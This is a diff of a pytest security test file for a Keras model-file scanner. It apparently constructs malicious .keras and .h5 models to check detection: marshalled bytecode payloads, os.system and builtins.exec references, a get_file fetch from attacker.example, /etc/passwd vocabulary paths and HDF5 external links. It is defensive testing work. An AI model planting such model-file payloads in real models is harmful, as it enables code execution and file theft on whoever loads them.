@@ -13,237 +13,38 @@ import hashlib
 import json
 import marshal
 import os
-import shutil
 import subprocess
 import sys
-import types
-import warnings
 import zipfile
-from dataclasses import dataclass
 from pathlib import Path
-from typing import Callable, Optional
 
 import pytest
 
 import modelaudit
 from modelaudit.checks.security import carries_code, looks_like_code_object
+from tests.security import callables, containers, payloads
+from tests.security.kit import (
+    K2_KERNEL, K3_KERNEL, ZEROS, Case, b64_code, build_real, double, edit_h5, external_link, external_storage, fn_ref,
+    h5_config, h5_training, h5_tree, huge, k3, k3_members, k3_weights, lambda_function, layer_cfg, payload_code,
+    raw_marshal_in_training, rezip, set_at, virtual,
+)
 
 ROOT = Path(__file__).resolve().parents[1]
-
-
-def double(x):
-    return x * 2
-
-
-# ---- real files, saved once by real Keras --------------------------------------------------------
+TOPICS = (callables, containers, payloads)
 
 
 @pytest.fixture(scope="module")
 def real(tmp_path_factory) -> dict:
-    import keras
-    import tf_keras
-
     out = tmp_path_factory.mktemp("real")
-    files = {}
-
-    def save3(name, model):
-        files[name] = str(out / f"{name}.keras")
-        keras.saving.save_model(model, files[name])
-
-    def save2(name, model):
-        files[name] = str(out / f"{name}.h5")
-        model.save(files[name], save_format="h5")
-
-    dense = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense"), keras.layers.Dense(2, name="out")])
-    dense.compile(optimizer="adam", loss="mse")
-    save3("k3_dense", dense)
-    save3("k3_lambda", keras.Sequential(
-        [keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2, name="lam"), keras.layers.Dense(2, name="out")]))
-    save3("k3_named_lambda", keras.Sequential(
-        [keras.Input((4,)), keras.layers.Lambda(double, name="lam"), keras.layers.Dense(2, name="out")]))
-    inner = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda x: x + 1, name="lam")], name="inner")
-    inp = keras.Input((4,), name="x")
-    save3("k3_nested_lambda", keras.Model(inp, keras.layers.Dense(2, name="out")(inner(inp)), name="outer"))
-    words = keras.Input((1,), dtype="string", name="words")
-    save3("k3_lookup", keras.Model(words, keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")(words)))
-
-    @keras.saving.register_keras_serializable(package="Acme")
-    class Scale(keras.layers.Layer):
-        def call(self, x):
-            return x * 2
-
-    save3("k3_custom", keras.Sequential([keras.Input((4,)), Scale(name="scale"), keras.layers.Dense(2, name="out")]))
-
-    d2 = tf_keras.Sequential([tf_keras.layers.Dense(3, input_shape=(4,), name="dense"), tf_keras.layers.Dense(2, name="out")])
-    d2.compile(optimizer="adam", loss="mse")
-    save2("k2_dense", d2)
-    save2("k2_lambda", tf_keras.Sequential(
-        [tf_keras.layers.Lambda(lambda x: x * 2, input_shape=(4,), name="lam"), tf_keras.layers.Dense(2, name="out")]))
+    files = build_real(out)
+    for topic in TOPICS:
+        for name, build in topic.BASES.items():
+            files[name] = build(out)
     return files
-
-
-# ---- editing a saved file the way an attacker does -----------------------------------------------
-
-
-def rezip(src: str, dst: str, config: Optional[Callable] = None, weights: Optional[Callable] = None,
-          extra: tuple = ()) -> str:
-    """Copy a .keras zip, optionally editing config.json (a function of the dict) or the weights (a
-    function of an h5py.File opened r+), then appending extra (name, bytes, compress_type) members."""
-    import h5py
-
-    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
-        for info in zin.infolist():
-            data = zin.read(info)
-            if info.filename == "config.json" and config is not None:
-                cfg = json.loads(data)
-                config(cfg)
-                data = json.dumps(cfg).encode()
-            if info.filename == "model.weights.h5" and weights is not None:
-                tmp = dst + ".weights.h5"
-                Path(tmp).write_bytes(data)
-                with h5py.File(tmp, "r+") as h5:
-                    weights(h5)
-                data = Path(tmp).read_bytes()
-                os.remove(tmp)
-            zout.writestr(info.filename, data)
-        with warnings.catch_warnings():
-            warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # an attack's duplicate, on purpose
-            for name, data, method in extra:
-                zout.writestr(zipfile.ZipInfo(name), data, compress_type=method)
-    return dst
-
-
-def edit_h5(src: str, dst: str, change: Callable = None, config: Callable = None, training: Callable = None) -> str:
-    """Copy a legacy .h5 and edit it with h5py: its tree, its model_config or its training_config."""
-    import h5py
-
-    shutil.copyfile(src, dst)
-    with h5py.File(dst, "r+") as h5:
-        for attr, edit in (("model_config", config), ("training_config", training)):
-            if edit is not None:
-                cfg = json.loads(h5.attrs[attr])
-                edit(cfg)
-                h5.attrs[attr] = json.dumps(cfg)
-        if change is not None:
-            change(h5, os.path.dirname(dst))
-    return dst
-
-
-def layer_cfg(cfg: dict, index: int) -> dict:
-    return cfg["config"]["layers"][index]["config"]
-
-
-def payload_code(marker: str) -> types.CodeType:
-    """The code object of `lambda x: (open(marker, "w").close(), x)[1]`: compiled, never called."""
-    module = compile(f"lambda x: (open({marker!r}, 'w').close(), x)[1]", "<payload>", "eval")
-    return next(c for c in module.co_consts if isinstance(c, types.CodeType))
-
-
-def b64_code(marker: str = "/tmp/never-created") -> str:
-    return base64.encodebytes(marshal.dumps(payload_code(marker))).decode("ascii")
-
-
-def fn_ref(module, name, registered=None) -> dict:
-    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}
 
 
 # ---- the attack table --------------------------------------------------------------------------
 
-
-@dataclass
-class Case:
-    id: str
-    base: str
-    make: Optional[Callable]  # (src, dst, tmp_dir) -> path; None: the real file as saved
-    code: str
-    layer: Optional[str]
-    where: str  # a substring of the finding's message: the JSON location, member or HDF5 path
-
-
-def k3(edit):
-    return lambda src, dst, tmp: rezip(src, dst + ".keras", config=edit)
-
-
-def k3_weights(edit):
-    return lambda src, dst, tmp: rezip(src, dst + ".keras", weights=lambda h5: edit(h5, tmp))
-
-
-def k3_members(*extra):
-    return lambda src, dst, tmp: rezip(src, dst + ".keras", extra=extra)
-
-
-def h5_tree(edit):
-    return lambda src, dst, tmp: edit_h5(src, dst + ".h5", change=edit)
-
-
-def h5_config(edit):
-    return lambda src, dst, tmp: edit_h5(src, dst + ".h5", config=edit)
-
-
-def h5_training(edit):
-    return lambda src, dst, tmp: edit_h5(src, dst + ".h5", training=edit)
-
-
-def _set(path: list, value):
-    def edit(cfg):
-        node = cfg
-        for key in path[:-1]:
-            node = node[key]
-        node[path[-1]] = value
-    return edit
-
-
-def _lambda_function(fn, arguments=None):
-    def edit(cfg):
-        layer_cfg(cfg, 1)["function"] = fn
-        if arguments is not None:
-            layer_cfg(cfg, 1)["arguments"] = arguments
-    return edit
-
-
-def _external_link(h5, tmp):
-    import h5py
-
-    h5["model_weights/dense/leak"] = h5py.ExternalLink("/etc/passwd", "/")
-
-
-def _external_storage(path):
-    def edit(h5, tmp):
-        raw = os.path.join(tmp, "secret.bin")
-        Path(raw).write_bytes(b"\0" * 48)
-        del h5[path]
-        h5.create_dataset(path, shape=(4, 3), dtype="f4", external=[(raw, 0, 48)])
-    return edit
-
-
-def _virtual(path):
-    def edit(h5, tmp):
-        import h5py
-
-        src = os.path.join(tmp, "source.h5")
-        with h5py.File(src, "w") as f:
-            f["data"] = [[0.0] * 3] * 4
-        layout = h5py.VirtualLayout(shape=(4, 3), dtype="f4")
-        layout[:] = h5py.VirtualSource(src, "data", shape=(4, 3))
-        del h5[path]
-        h5.create_virtual_dataset(path, layout)
-    return edit
-
-
-def _huge(path):
-    def edit(h5, tmp):
-        del h5[path]
-        h5.create_dataset(path, shape=(1 << 20, 1 << 20), dtype="f4")  # 4 TiB declared, nothing written
-    return edit
-
-
-def _raw_marshal_in_training(cfg):
-    cfg["loss_weights"] = {"out": marshal.dumps(payload_code("/tmp/never-created")).decode("latin-1")}
-
-
-K2_KERNEL = "model_weights/dense/dense/kernel:0"
-K3_KERNEL = "layers/dense/vars/0"
-ZEROS = b"\0" * (16 << 20)
 
 CASES = [
     # MA401: serialized bytecode, at any depth and in any string
@@ -254,23 +55,26 @@ CASES = [
     Case("k2-lambda-output-shape", "k2_lambda", h5_config(lambda cfg: layer_cfg(cfg, 1).update(
         output_shape=[b64_code(), None, None], output_shape_type="lambda")),
         "MA401", "lam", "`config.layers[1].config.output_shape`"),
-    Case("marshal-string-in-dense-config", "k3_dense", k3(_set(["config", "layers", 1, "config", "note"], b64_code())),
-         "MA401", "dense", "`config.layers[1].config.note`"),
-    Case("marshal-string-in-compile-config", "k3_dense", k3(_set(["compile_config", "loss_weights"], {"out": b64_code()})),
+    Case("marshal-string-in-dense-config", "k3_dense", k3(set_at(["config", "layers", 1, "config", "note"], b64_code())),
+         "MA401", "dense", "`config.layers[1].config.note`",
+         twin=k3(set_at(["config", "layers", 1, "config", "note"], base64.b64encode(b"trained on 2026-11-30" * 4).decode()))),
+    Case("marshal-string-in-compile-config", "k3_dense", k3(set_at(["compile_config", "loss_weights"], {"out": b64_code()})),
          "MA401", None, "`compile_config.loss_weights.out`"),
-    Case("raw-marshal-in-training-config", "k2_dense", h5_training(_raw_marshal_in_training),
+    Case("raw-marshal-in-training-config", "k2_dense", h5_training(raw_marshal_in_training),
          "MA401", None, "`training_config.loss_weights.out`"),
     # MA402: a Lambda by reference
     Case("k3-named-lambda", "k3_named_lambda", None, "MA402", "lam", "`config.layers[1]`"),
     # MA403: module references outside the Keras family (CVE-2025-1550)
-    Case("os-system-as-lambda-function", "k3_lambda", k3(_lambda_function(fn_ref("os", "system"), {"command": "touch x"})),
+    Case("os-system-as-lambda-function", "k3_lambda", k3(lambda_function(fn_ref("os", "system"), {"command": "touch x"})),
          "MA403", "lam", "`os.system` at `config.layers[1].config.function`"),
-    Case("dangerous-even-when-registered", "k3_lambda", k3(_lambda_function(fn_ref("subprocess", "run", "run"))),
+    Case("dangerous-even-when-registered", "k3_lambda", k3(lambda_function(fn_ref("subprocess", "run", "run"))),
          "MA403", "lam", "`subprocess.run`"),
-    Case("foreign-initializer", "k3_dense", k3(_set(["config", "layers", 1, "config", "kernel_initializer"],
+    Case("foreign-initializer", "k3_dense", k3(set_at(["config", "layers", 1, "config", "kernel_initializer"],
          {"module": "evil_pkg.payload", "class_name": "Boom", "config": {}, "registered_name": None})),
-         "MA403", "dense", "`evil_pkg.payload.Boom` at `config.layers[1].config.kernel_initializer`"),
-    Case("builtins-exec-as-loss", "k3_dense", k3(_set(["compile_config", "loss"], fn_ref("builtins", "exec"))),
+         "MA403", "dense", "`evil_pkg.payload.Boom` at `config.layers[1].config.kernel_initializer`",
+         twin=k3(set_at(["config", "layers", 1, "config", "kernel_initializer"],
+                 {"module": "keras.initializers", "class_name": "HeNormal", "config": {"seed": None}, "registered_name": None}))),
+    Case("builtins-exec-as-loss", "k3_dense", k3(set_at(["compile_config", "loss"], fn_ref("builtins", "exec"))),
          "MA403", None, "`builtins.exec` at `compile_config.loss`"),
     Case("training-config-naming-no-objective", "k2_dense",
          h5_training(lambda cfg: (cfg.clear(), cfg.update(metrics=[fn_ref("posix", "system")]))),
@@ -278,21 +82,22 @@ CASES = [
     Case("k2-lambda-module-os", "k2_lambda", h5_config(lambda cfg: layer_cfg(cfg, 1).update(module="os")),
          "MA403", "lam", "module `os` at `config.layers[1].config.module`"),
     # MA404: Keras's own functions as gadgets, file paths and URLs
-    Case("cve-2025-8747-get-file", "k3_lambda", k3(_lambda_function(
+    Case("cve-2025-8747-get-file", "k3_lambda", k3(lambda_function(
         fn_ref("keras.utils", "get_file"), {"origin": "https://attacker.example/x.py", "cache_dir": "/tmp"})),
         "MA404", "lam", "`keras.utils.get_file` at `config.layers[1].config.function`"),
-    Case("cve-2025-9906-set-global-attribute", "k3_lambda", k3(_lambda_function(
+    Case("cve-2025-9906-set-global-attribute", "k3_lambda", k3(lambda_function(
         fn_ref("keras.src.backend.common.global_state", "set_global_attribute"),
         {"name": "safe_mode_saving", "value": False})),
         "MA404", "lam", "set_global_attribute` at `config.layers[1].config.function`"),
-    Case("cve-2025-9906-enable-unsafe", "k3_lambda", k3(_lambda_function(fn_ref("keras.config", "enable_unsafe_deserialization"))),
+    Case("cve-2025-9906-enable-unsafe", "k3_lambda", k3(lambda_function(fn_ref("keras.config", "enable_unsafe_deserialization"))),
          "MA404", "lam", "`keras.config.enable_unsafe_deserialization`"),
-    Case("load-model-with-safe-mode-off", "k3_lambda", k3(_lambda_function(fn_ref("keras.models", "load_model"), {"safe_mode": False})),
+    Case("load-model-with-safe-mode-off", "k3_lambda", k3(lambda_function(fn_ref("keras.models", "load_model"), {"safe_mode": False})),
          "MA404", "lam", "`safe_mode: false` at `config.layers[1].config.arguments.safe_mode`"),
-    Case("cve-2025-12058-vocabulary-path", "k3_lookup", k3(_set(["config", "layers", 1, "config", "vocabulary"], "/etc/passwd")),
+    Case("cve-2025-12058-vocabulary-path", "k3_lookup", k3(set_at(["config", "layers", 1, "config", "vocabulary"], "/etc/passwd")),
          "MA404", "lookup", "StringLookup `vocabulary` '/etc/passwd' at `config.layers[1].config.vocabulary`"),
-    Case("vocabulary-url", "k3_lookup", k3(_set(["config", "layers", 1, "config", "vocabulary"], "https://attacker.example/v")),
-         "MA404", "lookup", "`config.layers[1].config.vocabulary`"),
+    Case("vocabulary-url", "k3_lookup", k3(set_at(["config", "layers", 1, "config", "vocabulary"], "https://attacker.example/v")),
+         "MA404", "lookup", "`config.layers[1].config.vocabulary`",
+         twin=k3(set_at(["config", "layers", 1, "config", "vocabulary"], ["https", "attacker", "example"]))),
     Case("tfsmlayer", "k3_dense", k3(lambda cfg: cfg["config"]["layers"][2].update(
         class_name="TFSMLayer", config={"name": "out", "filepath": "/srv/models/evil"})),
         "MA404", "out", "`TFSMLayer` at `config.layers[2]`"),
@@ -311,17 +116,21 @@ CASES = [
     Case("zip-unexpected-member", "k3_dense", k3_members(("notes.txt", b"hello", zipfile.ZIP_STORED)),
          "MA405", None, "outside the `.keras` layout"),
     # MA406: HDF5 references outside the file (CVE-2026-1669)
-    Case("h5-external-link", "k2_dense", h5_tree(_external_link), "MA406", "dense", "external link to /etc/passwd"),
-    Case("h5-external-storage", "k2_dense", h5_tree(_external_storage(K2_KERNEL)), "MA406", "dense", "external storage"),
-    Case("h5-virtual-dataset", "k2_dense", h5_tree(_virtual(K2_KERNEL)), "MA406", "dense", "virtual dataset mapping"),
-    Case("keras-weights-external-storage", "k3_dense", k3_weights(_external_storage(K3_KERNEL)),
+    Case("h5-external-link", "k2_dense", h5_tree(external_link), "MA406", "dense", "external link to /etc/passwd"),
+    Case("h5-external-storage", "k2_dense", h5_tree(external_storage(K2_KERNEL)), "MA406", "dense", "external storage"),
+    Case("h5-virtual-dataset", "k2_dense", h5_tree(virtual(K2_KERNEL)), "MA406", "dense", "virtual dataset mapping"),
+    Case("keras-weights-external-storage", "k3_dense", k3_weights(external_storage(K3_KERNEL)),
          "MA406", "dense", "external storage"),
     # MA407: a registered custom class
     Case("k3-registered-custom-layer", "k3_custom", None, "MA407", "scale", "'Acme>Scale'"),
     # MA408: a dataset declaring far more than the file holds (CVE-2026-0897)
-    Case("h5-oversized-dataset", "k2_dense", h5_tree(_huge(K2_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
-    Case("keras-oversized-dataset", "k3_dense", k3_weights(_huge(K3_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
+    Case("h5-oversized-dataset", "k2_dense", h5_tree(huge(K2_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
+    Case("keras-oversized-dataset", "k3_dense", k3_weights(huge(K3_KERNEL)), "MA408", "dense", "4,398,046,511,104 bytes"),
 ]
+
+
+CASES += [case for topic in TOPICS for case in topic.CASES]
+TWINS = [case for case in CASES if case.twin is not None]
 
 
 @pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
@@ -336,6 +145,18 @@ def test_attack_is_seen(case, real, tmp_path):
     assert hits, f"{case.code} not raised; found {[(f.code, f.message) for f in fr.findings]}"
     assert any(f.layer == case.layer and case.where in f.message for f in hits), [(f.layer, f.message) for f in hits]
     assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == before  # never write to an input
+
+
+@pytest.mark.parametrize("case", TWINS, ids=[c.id for c in TWINS])
+def test_benign_twin_is_read_and_clean(case, real, tmp_path):
+    """The same trick without its payload: Keras would load it, so we read it, and it raises no MA4xx."""
+    path = case.twin(real[case.base], str(tmp_path / f"{case.id}-twin"), str(tmp_path))
+    before = hashlib.sha256(Path(path).read_bytes()).hexdigest()
+    fr = modelaudit.audit(path).files[0]
+    assert fr.error is None, fr.error
+    assert not fr.internal_errors, fr.internal_errors
+    assert not [(f.code, f.message) for f in fr.findings if f.code.startswith("MA4")]
+    assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == before
 
 
 def test_severity_ignores_the_declared_keras_version(real, tmp_path):
